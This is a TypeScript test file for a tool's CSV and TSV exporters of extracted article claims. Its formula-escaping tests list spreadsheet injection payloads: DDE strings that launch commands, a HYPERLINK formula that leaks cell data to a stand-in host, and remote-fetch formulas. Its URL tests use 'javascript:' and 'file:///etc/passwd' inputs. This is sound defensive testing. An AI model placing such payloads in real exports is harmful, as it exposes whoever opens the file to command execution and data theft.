import { parse } from 'csv-parse/sync'
import * as fc from 'fast-check'
import type { ArticleRecord } from '../../src/model/record.js'
import { writeCsv } from '../../src/write/csv.js'
import type { DelimitedOptions } from '../../src/write/writer.js'
import { ROWS, type RowsName } from '../../src/write/tables/index.js'
import { TEMPLATES, UnknownColumn } from '../../src/write/tables/shape.js'
import { passageUrl } from '../../src/write/tables/text-fragment.js'
import { writeTsv } from '../../src/write/tsv.js'
import { RECORD, TEXT } from '../support/record.js'

const parsed = (text: string, delimiter = ','): string[][] =>
  parse(text, { delimiter, record_delimiter: '\r\n', bom: true })

const rowsOf = (options: Partial<DelimitedOptions>, record: ArticleRecord = RECORD): Record<string, string>[] => {
  const pieces = writeCsv({ rows: 'claims', bom: false, ...options })
  const [columns, ...cells] = parsed(pieces.begin() + pieces.record(record, TEXT) + pieces.end())
  return cells.map((row) => Object.fromEntries(columns.map((column, i) => [column, row[i]])))
}

describe('the table of claims', () => {
  it('has the columns of the contract', () =>
    expect(ROWS.claims.columns.join(', ')).toBe(
      'id, document, line, kind, text, speaker, source, via, level, cue, value, min, max, modifier, unit, measure, date, date_precision, entities, before, passage, after, page',
    ))

  it('has a row a claim, with its passage and what stands around it', () =>
    expect(rowsOf({})).toEqual([
      {
        id: 'c0ffee000001',
        document: 'fair.txt',
        line: '1',
        kind: 'quote',
        text: 'that “about 25,000 people” came',
        speaker: 'Ann Lee',
        source: "'=Ann Lee",
        via: '',
        level: 'named',
        cue: 'said',
        value: '25000',
        min: '',
        max: '',
        modifier: 'about',
        unit: '',
        measure: 'people',
        date: '2024-05-05',
        date_precision: 'day',
        entities: 'Ann Lee',
        before: '🚢 Cafe\u0301 owner',
        passage: "'=Ann Lee said on 5 May 2024 that “about 25,000 people” came",
        after: '. It cost -3.5%.',
        page: '',
      },
      expect.objectContaining({ kind: 'figure', value: '-3.5', unit: 'percent', passage: 'It cost -3.5%.' }),
    ]))
})

describe('the other tables', () => {
  it.each([
    ['quotes', { id: 'a1', form: 'mixed', speaker: 'Ann Lee', line: '2', rule: 'speaker-said-that' }],
    [
      'figures',
      {
        id: 'f1',
        value: '25000',
        measure: 'people',
        before: expect.stringMatching(/that “about$/),
        after: 'people” came. It cost -3.5%.',
      },
    ],
    ['dates', { id: 'd1', date: '2024-05-05', anchor: 'explicit', line: '1' }],
    [
      'documents',
      { document: 'fair.txt', date: '2024-05-05', url: 'https://example.org/fair', claims: '2', quotes: '1' },
    ],
    ['entities', { id: 'e1', kind: 'person', aliases: 'Lee; Annie', role: '\'=HYPERLINK("x")', mentions: '1' }],
  ] as const)('%s', (rows, expected) => expect(rowsOf({ rows })[0]).toMatchObject(expected))

  it.each((Object.keys(ROWS) as RowsName[]).filter((rows) => rows !== 'documents'))(
    '%s: passage and context stand in every row',
    (rows) => {
      for (const row of rowsOf({ rows }))
        expect([row.document, row.passage !== '', 'before' in row, 'after' in row]).toEqual([
          'fair.txt',
          true,
          true,
          true,
        ])
    },
  )
})

const columnsOf = (options: Partial<DelimitedOptions>): string[] => Object.keys(rowsOf(options)[0])

describe('columns', () => {
  it('are those that are asked for, in that order', () =>
    expect(rowsOf({ columns: ['line', 'speaker', 'id'] })).toEqual([
      { line: '1', speaker: 'Ann Lee', id: 'c0ffee000001' },
      { line: '3', speaker: '', id: 'c0ffee000002' },
    ]))

  it('a template adds empty ones at the end, or where they are named', () => {
    expect(columnsOf({ rows: 'dates', template: 'factcheck' })).toEqual([
      ...ROWS.dates.columns,
      ...TEMPLATES.factcheck.columns,
    ])
    expect(columnsOf({ template: 'factcheck', columns: ['ok', 'text'] })).toEqual([
      'ok',
      'text',
      'method',
      'source_checked',
      'date_checked',
      'note',
    ])
    expect(rowsOf({ template: 'factcheck', columns: ['ok', 'line'] })[1]).toMatchObject({ ok: '', line: '3', note: '' })
  })

  it('that the table does not have are refused', () => {
    expect(() => rowsOf({ rows: 'dates', columns: ['line', 'speaker'] })).toThrow(UnknownColumn)
    expect(() => rowsOf({ columns: ['ok'] })).toThrow('the table of claims has no column "ok"; it has id, document')
  })
})

const withText = (text: string): ArticleRecord => ({
  ...RECORD,
  claims: [{ ...RECORD.claims[1], text }],
})

/** What spreadsheets have been made to run, or to fetch, from tables. */
const FORMULAS = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://example.org/?leak="&A1,"Click")',
  '=IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
  '=WEBSERVICE("https://example.org/")',
  '=DDE("cmd";"/C calc";"x")',
  "+1+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  '-x',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\t=1',
  '\r=1',
  '\n =1',
  '\ufeff=1',
  '\0=1',
  '\u00a0=1',
  '\uff1d1',
  '\uff0b1',
  '\uff0d1',
  '\uff20x',
]

describe('cells', () => {
  it.each(FORMULAS)('a formula stays text: %j', (formula) => {
    const text = formula.replace(/^[\s\0\ufeff]+/, '')
    expect(rowsOf({}, withText(formula))[0].text).toBe(`'${text}`)
    expect(rowsOf({ escapeFormulas: false }, withText(formula))[0].text).toBe(text)
  })

  it('a formula behind a semicolon, at which Excel may split CSV, stays text; a smile in TSV has no apostrophe', () => {
    expect(rowsOf({}, withText('full;=1+1; -2;-3'))[0].text).toBe("full;'=1+1; -2;'-3")
    expect(rowsOf({}, withText('full;"=1";＝1+1; "-2"'))[0].text).toBe(`full;'"=1";'＝1+1; "-2"`)
    expect(rowsOf({ escapeFormulas: false }, withText('full;=1+1'))[0].text).toBe('full;=1+1')
    const [row] = parsed(writeTsv({ rows: 'claims', bom: false }).record(withText('full ;-)'), TEXT), '\t')
    expect(row[4]).toBe('full ;-)')
  })

  it('negative numbers stay numbers', () => expect(rowsOf({ rows: 'figures' })[1].value).toBe('-3.5'))

  it('any text comes back from CSV and TSV, on one line', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), fc.constantFrom('"', ',', '\t', '\r\n', '""', ';'), (a, b) => {
        const text = `x${a}${b}${a}${b}`
        for (const [write, delimiter] of [
          [writeCsv, ','],
          [writeTsv, '\t'],
        ] as const) {
          const rows = parsed(
            write({ rows: 'claims', bom: false, escapeFormulas: false }).record(withText(text), TEXT),
            delimiter,
          )
          expect(rows).toHaveLength(1)
          expect(rows[0]).toHaveLength(ROWS.claims.columns.length)
          expect(rows[0][4]).toBe(text.replace(/[\s\p{Cc}\ufeff]+/gu, ' ').trim())
        }
      }),
    )
  })

  it('a byte order mark comes first where it is asked for', () =>
    expect(writeTsv({ rows: 'dates', bom: true }).begin()).toMatch(/^\ufeffid\tdocument\t/))

  it('a passage leads to its place on the page; tables have the passage alone', () => {
    const passages = ROWS.claims.rowsOf(RECORD, TEXT).map((row) => row[ROWS.claims.columns.indexOf('passage')])
    expect(passages[1]).toEqual({
      text: 'It cost -3.5%.',
      url: 'https://example.org/fair#:~:text=It%20cost%20%2D3.5%25.',
    })
    expect(rowsOf({})[1].passage).toBe('It cost -3.5%.')
  })
})

describe('the address of a passage', () => {
  it.each([
    ['https://example.org/a', 'Ships, boats & rafts', 'https://example.org/a#:~:text=Ships%2C%20boats%20%26%20rafts'],
    ['https://example.org/a#top', 'It\r\nrained.', 'https://example.org/a#top:~:text=It%20rained.'],
    [
      'http://example.org',
      Array.from({ length: 30 }, (_, i) => i).join(' '),
      'http://example.org/#:~:text=0%201%202%203%204%205,24%2025%2026%2027%2028%2029',
    ],
    ['javascript:alert(1)', 'x', null],
    ['file:///etc/passwd', 'x', null],
    ['https://', 'x', null],
    [null, 'x', null],
  ])('%s, %j', (url, passage, expected) => expect(passageUrl(url, passage)).toBe(expected))

  it('is none where it would be longer than spreadsheets take', () =>
    expect(passageUrl(`https://example.org/${'a'.repeat(2000)}`, 'x')).toBeNull())
})
